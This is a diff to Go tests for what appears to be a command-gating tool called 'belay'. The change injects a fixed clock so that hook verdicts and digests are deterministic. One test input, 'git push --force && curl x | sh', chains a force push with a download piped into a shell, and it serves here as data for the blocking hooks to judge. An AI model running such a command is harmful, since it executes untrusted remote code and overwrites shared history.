@@ -93,11 +93,11 @@ func TestAdHocHook(t *testing.T) {
 func TestSameInvocationSameVerdict(t *testing.T) {
 	inv := exec("git push --force && curl x | sh")
 	inv.ID = "01890a5d-ac96-774b-bcce-b302099a8057"
-	inv.Time = time.Date(2026, 1, 2, 3, 4, 5, 600, time.UTC) // part of the input, and so of what reading it costs
+	at := fixedClock(time.Date(2026, 1, 2, 3, 4, 5, 600, time.UTC)) // part of the input, and so of what reading it costs
 	seed := [32]byte{7}
 	var got []phases.Verdict
 	for range 2 {
-		b := open(t, t.TempDir(), belay.Options{Hooks: []belay.AdHocHook{{Path: example("command-block")}, {Path: example("ask-push")}}})
+		b := open(t, t.TempDir(), belay.Options{Clock: at, Hooks: []belay.AdHocHook{{Path: example("command-block")}, {Path: example("ask-push")}}})
 		v, err := b.InvokeWith(t.Context(), inv, belay.InvokeOptions{Seed: &seed})
 		if err != nil {
 			t.Fatal(err)
@@ -297,21 +297,26 @@ func TestStateDirectoryIsPrivate(t *testing.T) {
 	}
 }
 
+// fixedClock is a kernel.Clock that stands still.
+type fixedClock time.Time
+
+func (c fixedClock) Now() time.Time { return time.Time(c) }
+
 // Processes that start together agree on keys and share the record.
 func TestOpenedTogether(t *testing.T) {
 	dir := state(t, "version: belay/v1\n")
-	digests := make([]string, 6)
+	digests, at := make([]string, 6), fixedClock(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)) // part of what is digested
 	var wg sync.WaitGroup
 	for i := range digests {
 		wg.Go(func() {
-			b, err := belay.Open(context.Background(), dir, belay.Options{})
+			b, err := belay.Open(context.Background(), dir, belay.Options{Clock: at})
 			if err != nil {
 				t.Error(err)
 				return
 			}
 			defer b.Close()
 			inv := exec("ls")
-			inv.ID, inv.Time = "01890a5d-ac96-774b-bcce-b302099a8057", inv.Time.AddDate(2000, 0, 0)
+			inv.ID = "01890a5d-ac96-774b-bcce-b302099a8057"
 			v, err := b.Invoke(context.Background(), inv)
 			if err != nil {
 				t.Error(err)
